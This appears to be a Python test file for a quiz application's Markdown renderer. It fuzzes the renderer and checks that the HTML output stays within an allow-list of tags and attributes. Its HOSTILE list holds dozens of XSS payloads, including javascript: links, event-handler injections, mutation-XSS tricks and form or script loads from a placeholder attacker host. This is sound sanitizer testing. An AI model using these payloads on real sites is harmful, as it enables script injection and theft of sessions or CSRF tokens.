"""What can never come out of rendering, whatever goes in."""

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizzes.core.rendering import BLOCK_TAGS, INLINE_TAGS, render, render_inline

ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "code": {"class"},
    "div": {"class", "tabindex"},
    "ol": {"start"},
    "pre": {"tabindex"},
    "span": {"lang"},
    "td": {"align"},
    "th": {"align"},
}
ALLOWED_VALUES = {
    "align": r"left|center|right",
    "class": r"scroll|language-[\w#.+-]+",
    "href": r"(?i:https?:|mailto:).*",
    "lang": r"[A-Za-z0-9-]+",
    "rel": r"noopener noreferrer nofollow",
    "start": r"\d{1,6}",
    "tabindex": r"0",
    "title": r".*",
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>hi</b>",
    "<b style='background:url(javascript:alert(1))' id=csrf name=csrf class=btn>hi</b>",
    "<span class='language-x' tabindex=3>hi</span>",
    "<code class='language-x\" onclick=alert(1)'>hi</code>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</p></div></label></fieldset></form><form action=//evil.example><input name=q>",
    "<input name=csrfmiddlewaretoken value=x><button formaction=//evil.example>go</button>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<style>@import '//evil.example/x.css'</style><link rel=stylesheet href=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    '[x](http://a.example/"onclick="alert(1))',
    '[x](http://a.example "t\\" onclick=alert(1)")',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript://%0aalert(1)>",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](http://a.example/x.png)',
    "![<script>alert(1)</script>](x)",
    "```html'onclick=alert(1)\n<script>alert(1)</script>\n```",
    '```{.x onclick="alert(1)" id=y}\nz\n```',
    '~~~ "><script>alert(1)</script>\nx\n~~~',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<b <script>alert(1)</script>>x</b>",
    "<b title='`</b><script>alert(1)</script>`'>x</b>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03<script>alert(1)</script>",
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|<td onclick=x>|",
    "# <script>alert(1)</script> {#id onclick=x}",
    "<form id=document><input name=cookie>",
    "<ｓcript>alert(1)</ｓcript>",
    "<b\x00 onclick=alert(1)>x</b>",
    "<br/onclick=alert(1)>",
    "<u/onclick='alert(1)'/>",
]


def assert_allowed_element(tag, attributes):
    assert tag in INLINE_TAGS | BLOCK_TAGS | {"a"}
    for name, value in attributes.items():
        assert name in ALLOWED_ATTRIBUTES.get(tag, set()), (tag, name)
        assert re.fullmatch(ALLOWED_VALUES[name], value, re.DOTALL), (name, value)
    assert tag != "a" or "rel" in attributes


class AllowList(HTMLParser):
    """Reads the result as written: anything not allowed is an assertion error."""

    def handle_starttag(self, tag, attrs):
        assert_allowed_element(tag, dict(attrs))

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_allowed(html):
    parser = AllowList()
    parser.feed(html)
    parser.close()


MARKDOWN_PIECES = st.sampled_from(
    [
        "*",
        "**",
        "_",
        "`",
        "```",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](http://a.example)",
        "](javascript:x)",
        "<",
        ">",
        "</",
        "/>",
        "<b>",
        "</b>",
        "<b",
        "<script>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?",
        "?>",
        "&",
        "&lt;",
        "&#60;",
        "|",
        "|-",
        "-",
        "1.",
        "#",
        ">",
        '"',
        "'",
        "=",
        "onclick=",
        "id=",
        "\\",
        "\n",
        "\n\n",
        "\x02",
        "\x03",
        "\x00",
        "\xa0",
        "<a@b.example>",
        "<http://a.example>",
        "~~~",
        ":",
        "<span",
        "class=",
        "style=",
    ]
)
MARKDOWN = st.lists(MARKDOWN_PIECES | st.text(max_size=6), max_size=30).map("".join)


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_stays_within_the_allow_list(markdown):
    assert_allowed(render(markdown))
    assert_allowed(render_inline(markdown))


@given(MARKDOWN)
def test_the_allow_list_holds_for_any_text(markdown):
    assert_allowed(render(markdown))
    assert_allowed(render_inline(markdown))


def stored_vectors():
    """Lists of public XSS samples, in the folder that QUIZMARK_VECTORS names."""
    for path in sorted(Path(os.environ["QUIZMARK_VECTORS"]).glob("*.json")):
        for entry in json.loads(path.read_text()):
            yield entry.get("data", "") if isinstance(entry, dict) else entry


@pytest.mark.skipif("QUIZMARK_VECTORS" not in os.environ, reason="QUIZMARK_VECTORS is not set")
def test_the_allow_list_holds_for_public_vectors():
    for vector in stored_vectors():
        assert_allowed(render(vector))
        assert_allowed(render_inline(vector))
